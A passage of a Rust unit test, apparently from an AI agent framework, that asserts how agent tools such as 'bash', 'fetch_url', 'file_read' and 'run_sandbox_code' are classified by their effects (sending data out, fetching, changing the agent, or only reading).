        assert!(effects(change).changes_agent, "{change}");
    }
    for out in ["notify", "publish_tool", "bash"] {
        assert!(effects(out).sends_out, "{out}");
    }
    assert!(effects("schedule").schedules);
    // A request of a URL sends out when it carries a body or goes to a new host (the rule
    // judges the call); code's fetch may send anything, and a result that fetched was read.
    for request in ["fetch_url", "browser_navigate"] {
        assert!(effects(request).requests_url, "{request}");
    }
    let code = effects("run_sandbox_code");
    assert!(code.sends_out && code.fetches && !code.reads_outside);
    for plain in ["set_state", "db_sql", "ask_user"] {
        assert!(effects(plain).is_none(), "{plain}");
    }
    // Reads of the agent's own data say so (the loop does not take them for a change done),
    // and nothing else.
    for reader in ["get_state", "db_schema", "read_system_prompt", "file_read", "load_skill"] {
        let effects = effects(reader);
        assert!(effects.reads_only && !effects.is_sensitive() && !effects.reads_outside, "{reader}");
    }
    let changers = specs.iter().filter(|spec| !spec.effects.reads_only).count();
    assert!(["set_state", "db_sql", "describe_db_table", "file_write"].iter().all(|name| !effects(name).reads_only));
    assert!(changers > 30, "only reads are declared read-only");
}
